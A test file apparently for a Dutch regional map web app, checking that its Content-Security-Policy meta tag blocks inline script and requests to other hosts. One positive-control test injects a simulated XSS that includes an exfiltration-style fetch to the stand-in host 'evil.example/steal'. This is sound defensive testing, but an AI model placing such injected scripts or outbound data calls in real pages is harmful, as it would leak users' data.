import { describe, expect, inject, it } from 'vitest';
import { readFileSync, readdirSync } from 'node:fs';
import { waitForMapIdle } from '../lib/browser';
import { CSP, serveStatic } from '../lib/server';
import { installTraps, pageVerdict, pollUntil, recordRequests, waitForAppReady, watchPage } from '../lib/watch';
import { sharedBrowser } from '../lib/sharedBrowser';

const baseUrl = inject('baseUrl');
const browser = sharedBrowser();

/** A page in a fresh context with every request, CSP violation, dialog and error recorded. */
async function watched(url: string) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 720 }, serviceWorkers: 'block' });
  await installTraps(context);
  const requests = recordRequests(context, new URL(url).host);
  const page = await context.newPage();
  const watch = watchPage(page);
  await page.goto(url);
  return { context, page, requests, watch };
}

describe('Content-Security-Policy', () => {
  it('is in the built index.html as a <meta> tag, the same policy the server sends, and no page has inline script', () => {
    const html = readFileSync('dist/index.html', 'utf8');
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1];
    expect(meta).toBe(CSP);
    expect(CSP).toContain("script-src 'self'");
    expect(CSP).toContain("connect-src 'self'");
    expect(CSP).not.toMatch(/unsafe-inline|unsafe-eval|https?:|\*/);
    for (const f of readdirSync('dist').filter((n) => n.endsWith('.html'))) {
      const scripts = readFileSync(`dist/${f}`, 'utf8').match(/<script\b[^>]*>/g) ?? [];
      expect(scripts.every((tag) => /\bsrc=/.test(tag))).toBe(true);
    }
  });

  it('on a host that sends no headers, the <meta> policy alone blocks injected inline script and other hosts', async () => {
    const plain = await serveStatic('dist', 0, { headers: false });
    try {
      const { context, page, requests } = await watched(plain.url);
      await waitForMapIdle(page);
      // Positive control: inject what an XSS would, and see the policy stop it.
      await page.evaluate(`(() => {
        const s = document.createElement('script');
        s.textContent = 'window.__pwned = 1';
        document.head.appendChild(s);
        fetch('https://evil.example/steal').catch(() => {});
      })()`);
      await pollUntil(page, `window.__cspViolations.length >= 2`);
      const { violations, pwned } = await pageVerdict(page);
      expect(pwned).toBe(false);
      expect(violations.some((v) => v.startsWith('script-src'))).toBe(true);
      expect(violations.some((v) => v.startsWith('connect-src') && v.includes('evil.example'))).toBe(true);
      expect(requests.foreign).toEqual([]);
      await context.close();
    } finally {
      await plain.close();
    }
  });

  it('a walk through every view: no request to another host, no CSP violation, no error', async () => {
    const { context, page, requests, watch } = await watched(baseUrl);
    await waitForMapIdle(page);
    // select a region by clicking it on the map (Drenthe's label point)
    const [x, y] = (await page.evaluate(`(() => { const p = window.__inspiratiekaart.map.project([6.6995, 52.7918]); return [p.x, p.y]; })()`)) as [number, number];
    const box = (await page.locator('.map canvas').boundingBox())!;
    await page.mouse.click(box.x + x, box.y + y);
    await expect.poll(() => page.getByTestId('selected-region').innerText()).toBe('Drenthe');
    for (const name of ['Tabel', 'Route', 'Vergelijk', 'Kaart']) {
      await page.getByRole('button', { name, exact: true }).click();
      await waitForAppReady(page);
    }
    await page.getByRole('button', { name: 'EN', exact: true }).click();
    await waitForMapIdle(page);
    // the lazy files too (offers, titles, …): everything the first visit fetches
    await page.waitForLoadState('networkidle');
    const { violations, pwned } = await pageVerdict(page);
    expect(requests.all.length).toBeGreaterThan(5);
    expect(requests.foreign).toEqual([]);
    expect(violations).toEqual([]);
    expect(pwned).toBe(false);
    expect(watch.dialogs).toEqual([]);
    expect(watch.errors).toEqual([]);
    await context.close();
  }, 180_000);
});
